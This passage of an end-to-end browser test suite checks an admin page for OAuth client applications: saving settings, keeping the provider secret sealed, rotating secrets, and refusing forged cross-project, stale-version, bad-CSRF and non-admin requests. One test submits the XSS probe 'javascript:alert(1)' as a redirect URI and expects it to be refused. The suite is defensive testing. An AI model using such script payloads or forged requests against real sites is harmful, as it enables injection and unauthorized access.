    const client = createClient(fx.projectId, 'Lab feed');
    const { context, page, problems } = await signedIn(fx.adminEmail);
    try {
      await page.goto(pageUrl(fx.projectId, 'clients'));
      await submit(page, 'link', /^Lab feed$/);
      assert.equal(new URL(page.url()).pathname, `/manage/projects/${fx.projectId}/clients/${client.id}`);
      await page.getByLabel(/^Redirect URIs/).fill('https://app.example.com/a\nhttps://app.example.com/b');
      await page.getByLabel(/^Allowed origins/).fill('https://app.example.com');
      await page.getByLabel(/^Default scope/).fill('openid profile');
      await page.getByLabel('Token endpoint authentication').selectOption('client_secret_post');
      await page.getByLabel(/^Access token lifetime/).fill('30m');
      await page.getByLabel(/^JWKS URI/).fill('https://app.example.com/jwks.json');
      await page.getByLabel('Authorize URL').fill('https://idp.example.com/authorize');
      await page.getByLabel('Token URL').fill('https://idp.example.com/token');
      await page.getByLabel('Client id at the provider').fill('tessera-at-idp');
      await page.getByLabel(/^Client secret at the provider/).fill('idp-secret-never-shown');
      await page.getByLabel('Use PKCE with the provider').check();
      await submit(page, 'button', 'Save client');
      assert.match(await page.locator('[role=status]').innerText(), /The client was saved/);
      let r = row(client.id);
      assert.deepEqual(JSON.parse(r[0]), ['https://app.example.com/a', 'https://app.example.com/b']);
      assert.deepEqual(JSON.parse(r[1]), ['https://app.example.com']);
      assert.deepEqual(r.slice(2, 5), ['openid profile', 'client_secret_post', '30m']);
      // The provider's secret is kept sealed (never in plain text at rest, never on the page).
      const sealed = JSON.parse(r[5]).clientSecretSealed;
      assert.ok(sealed && !r[5].includes('idp-secret-never-shown'), r[5]);
      assert.equal(JSON.parse(r[5]).usePkce, true);
      assert.doesNotMatch(await page.content(), /idp-secret-never-shown/);
      await shot(page, 'client');

      // Saved again without the provider's secret: the stored one stays.
      await page.getByLabel(/^Description/).fill('Posts lab results');
      await submit(page, 'button', 'Save client');
      assert.equal(JSON.parse(row(client.id)[5]).clientSecretSealed, sealed);

      // A refused value: beside the form, nothing changes.
      const before = row(client.id);
      await page.getByLabel(/^Redirect URIs/).fill('javascript:alert(1)');
      await submit(page, 'button', 'Save client');
      assert.match(await page.locator('#form-error').innerText(), /Invalid redirectUris/);
      assert.equal(await page.getByLabel(/^Redirect URIs/).getAttribute('aria-invalid'), 'true');
      assert.deepEqual(row(client.id), before);

      // Rotate, keeping the old secret for a day; then end it at once.
      await page.goto(pageUrl(fx.projectId, `clients/${client.id}`));
      await submit(page, 'button', 'Rotate secret');
      const rotated = await page.locator('#client-secret').innerText();
      assert.equal(await grant(client.id, client.secret), 200, 'the old secret retires for a day');
      await page.goto(pageUrl(fx.projectId, `clients/${client.id}`));
      await submit(page, 'button', /^End the previous secret now/);
      assert.match(await page.locator('[role=status]').innerText(), /no longer works/);
      assert.ok([400, 401].includes(await grant(client.id, client.secret)), 'the old secret is refused');
      assert.equal(await grant(client.id, rotated), 200);
      assert.deepEqual(problems, []);
    } finally {
      await context.close();
    }
  });

  it("refusals: another project's client, a stale version or token, a plain member", async () => {
    const fx = fixture('cclr');
    const other = fixture('cclr-other');
    const mine = createClient(fx.projectId, 'Mine');
    const theirs = createClient(other.projectId, 'Theirs');
    const { context, page } = await signedIn(fx.adminEmail);
    try {
      await page.goto(pageUrl(fx.projectId, `clients/${mine.id}`));
      const version = await page.locator('input[name=version]').getAttribute('value');
      for (const url of [pageUrl(fx.projectId, `clients/${theirs.id}`), pageUrl(other.projectId, `clients/${theirs.id}`)]) {
        const get = await page.request.get(url);
        assert.ok([403, 404].includes(get.status()), `${url} ${get.status()}`);
        let r = await forge(page, url, { name: 'Stolen', version });
        assert.ok([403, 404].includes(r.status), url);
        r = await forge(page, `${url}/revoke`, {});
        assert.ok([403, 404].includes(r.status), url);
      }
      assert.equal(await grant(theirs.id, theirs.secret), 200, "the other project's secret still works");
      assert.equal(dbQuery('SELECT name FROM client_application WHERE id = ?', [theirs.id])[0][0], 'Theirs');
      let r = await forge(page, pageUrl(fx.projectId, `clients/${mine.id}`), { name: 'Renamed', version: '1' });
      assert.equal(r.status, 409);
      assert.match(r.text, /changed meanwhile/);
      r = await forge(page, pageUrl(fx.projectId, `clients/${mine.id}`), { name: 'Renamed', version, csrf: 'c'.repeat(64) });
      assert.equal(r.status, 403);
      assert.equal(dbQuery('SELECT name FROM client_application WHERE id = ?', [mine.id])[0][0], 'Mine');
    } finally {
      await context.close();
    }
    const plain = await signedIn(fx.memberEmail);
    try {
      const csrf = await plain.page.locator('input[name=csrf]').first().getAttribute('value');
      assert.equal((await plain.page.goto(pageUrl(fx.projectId, `clients/${mine.id}`))).status(), 403);
      const r = await forge(plain.page, pageUrl(fx.projectId, `clients/${mine.id}/revoke`), { csrf });
      assert.equal(r.status, 403);
    } finally {
      await plain.context.close();
    }
  });

  it('fits a 360 px screen', async () => {
    const fx = fixture('cclw');
    const c = createClient(fx.projectId, 'Narrow');
    assert.ok((await fitsWidth(pageUrl(fx.projectId, `clients/${c.id}`), fx.adminEmail, 360)) <= 360);
  });
});
